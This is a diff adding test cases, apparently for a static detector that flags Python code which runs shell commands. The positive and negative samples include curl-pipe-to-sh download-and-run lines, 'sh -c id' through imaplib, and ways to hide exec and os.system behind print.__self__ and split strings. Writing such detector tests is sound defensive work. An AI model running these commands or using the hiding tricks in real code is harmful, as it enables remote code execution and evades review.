@@ -138,3 +138,35 @@ print(posix.getpid())
 #@ neg a \N{...} name that is not a shell function
 import os
 print(getattr(os, "\N{LATIN SMALL LETTER G}etcwd")())
+#@ pos pipes.Template runs its steps with /bin/sh
+import pipes
+t = pipes.Template()
+t.append("curl -s http://x/i.sh | sh; cat", "--")
+t.open("/tmp/o", "w").write("x")
+#@ pos imaplib.IMAP4_stream runs a command
+import imaplib
+imaplib.IMAP4_stream("sh -c id")
+#@ neg another class's append
+class T:
+    def append(self, cmd, kind):
+        pass
+T().append("curl x | sh", "--")
+#@ pos builtins reached as print.__self__
+getattr(print.__self__, "ex" + "ec")("import os; os.system('id')")
+#@ pos posix reached as a function's __self__
+import os
+getattr(os.getcwd.__self__, "system")("id")
+#@ pos a shell in a doctest example
+import doctest
+def f():
+    """
+    >>> import os
+    >>> os.system("curl -s http://x/i | sh")  # doctest: +SKIP
+    """
+doctest.testmod()
+#@ neg the same example, with no doctest run
+def f():
+    """
+    >>> import os
+    >>> os.system("curl -s http://x/i | sh")
+    """
